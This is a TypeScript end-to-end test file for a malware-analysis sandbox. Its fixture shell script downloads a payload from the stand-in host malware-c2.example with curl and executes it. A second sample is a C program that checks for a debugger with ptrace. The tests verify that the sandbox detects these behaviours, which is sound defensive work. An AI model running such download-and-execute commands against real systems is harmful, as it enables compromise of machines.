import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { form, startTestServer, type TestServer } from '../helpers/server.js';

/**
 * Issue 3 and 4 end to end: samples submitted through the API are analysed on the real Linux machine
 * (namespaces, guest root, task network with the fake internet, eBPF tracer), processed and reported.
 */
const SCRIPT = `#!/bin/sh
echo "stolen data" > /tmp/dropped.txt
mkdir -p /tmp/stage
sh -c 'echo from-child > /tmp/stage/child.txt'
curl -s -o /tmp/stage/payload http://malware-c2.example/payload.bin
chmod +x /tmp/stage/payload && /tmp/stage/payload
# A process that outlives the timeout (short sleeps: a long one would return at once): its memory is
# dumped at the end, then the machine kills it.
while :; do sleep 1; done &
sleep 1
`;

interface TaskView {
  id: number;
  status: string;
  errors: string[];
}

async function waitForTask(server: TestServer, id: number, timeoutMs = 240_000): Promise<TaskView> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const { body } = await server.json<{ task: TaskView }>(`/tasks/view/${id}`);
    if (['reported', 'failed_analysis', 'failed_processing'].includes(body.task.status)) return body.task;
    if (Date.now() > deadline) throw new Error(`task ${id} still ${body.task.status}`);
    await sleep(500);
  }
}

async function submitFile(server: TestServer, name: string, content: string | Uint8Array, fields: Record<string, string> = {}) {
  const { status, body } = await server.json<{ task_id: number }>('/tasks/create/file', {
    method: 'POST',
    body: form({ timeout: '60', ...fields }, [['file', name, content]]),
  });
  assert.equal(status, 200, JSON.stringify(body));
  return body.task_id;
}

describe('end to end on the Linux machine', { timeout: 900_000 }, () => {
  let server: TestServer;
  before(async () => {
    server = await startTestServer({ machines: [{ name: 'linux1' }] }, { engine: true, pollMs: 200 });
  });
  after(() => server.close());

  it('analyses a shell script and reports its processes, files, DNS, HTTP and dropped files', async () => {
    const id = await submitFile(server, 'dropper.sh', SCRIPT, { memory: 'true', timeout: '15' });
    const task = await waitForTask(server, id);
    assert.equal(task.status, 'reported', `errors: ${task.errors.join('; ')}`);
    const dir = join(server.ctx.layout.analyses, String(id));

    const events = readFileSync(join(dir, 'logs', 'events.jsonl'), 'utf8');
    assert.match(events, /"kind":"process.exec"[^\n]*"curl"/);
    assert.match(events, /\/tmp\/dropped\.txt/);
    assert.match(events, /"kind":"net.connect"/);

    const pcapText = execFileSync('tshark', ['-r', join(dir, 'dump.pcap'), '-Y', 'dns || http.request', '-T', 'fields', '-e', 'dns.qry.name', '-e', 'http.request.uri'], { encoding: 'utf8' });
    assert.match(pcapText, /malware-c2\.example/);
    assert.match(pcapText, /\/payload\.bin/);

    const dropped = readFileSync(join(dir, 'files.json'), 'utf8');
    assert.match(dropped, /\/tmp\/dropped\.txt/);
    assert.ok(readdirSync(join(dir, 'files')).some((name) => name.endsWith('_dropped.txt')));
    assert.ok(readdirSync(join(dir, 'shots')).some((name) => /^\d{4}\.(jpg|png)$/.test(name)), 'a screenshot was taken');
    assert.ok(readdirSync(join(dir, 'memory')).some((name) => name.endsWith('.dmp')), 'memory dumps were written');

    const { status, body: report } = await server.json<any>(`/tasks/report/${id}`);
    assert.equal(status, 200);
    const processNames = report.behavior.processes.map((p: { process_name: string }) => p.process_name);
    assert.ok(processNames.includes('curl'), processNames.join(','));
    assert.ok(report.behavior.summary.file_created.some((path: string) => path === '/tmp/dropped.txt'));
    assert.ok(report.network.dns.some((query: { request: string }) => query.request === 'malware-c2.example'));
    assert.ok(report.network.http.some((request: { uri: string }) => request.uri.includes('/payload.bin')));
    assert.ok(report.dropped.some((file: { filepath: string }) => file.filepath === '/tmp/dropped.txt'));
    const signatures = report.signatures.map((signature: { name: string }) => signature.name);
    assert.ok(signatures.includes('download_and_execute'), signatures.join(','));
    assert.ok(report.info.score > 0);
    assert.ok(existsSync(join(dir, 'reports', 'report.html')));
  });

  it('lets a sample that checks for a debugger misbehave, because nothing ptraces it', async () => {
    const source = `#include <stdio.h>
#include <sys/ptrace.h>
int main(void) {
  if (ptrace(PTRACE_TRACEME, 0, 0, 0) == 0) { FILE *f = fopen("/tmp/not-debugged", "w"); fputs("evil", f); fclose(f); }
  return 0;
}`;
    const dir = execFileSync('mktemp', ['-d'], { encoding: 'utf8' }).trim();
    execFileSync('sh', ['-c', `cat > ${dir}/p.c && gcc -static -O1 -o ${dir}/antidebug ${dir}/p.c`], { input: source });
    const id = await submitFile(server, 'antidebug', readFileSync(join(dir, 'antidebug')));
    const task = await waitForTask(server, id);
    assert.equal(task.status, 'reported', `errors: ${task.errors.join('; ')}`);
    const { body: report } = await server.json<any>(`/tasks/report/${id}`);
    assert.ok(report.dropped.some((file: { filepath: string }) => file.filepath === '/tmp/not-debugged'), 'the sample misbehaved');
    assert.ok(report.behavior.summary.file_created.includes('/tmp/not-debugged'));
    assert.ok(report.signatures.some((signature: { name: string }) => signature.name === 'antidebug_ptrace_traceme'));
  });
});
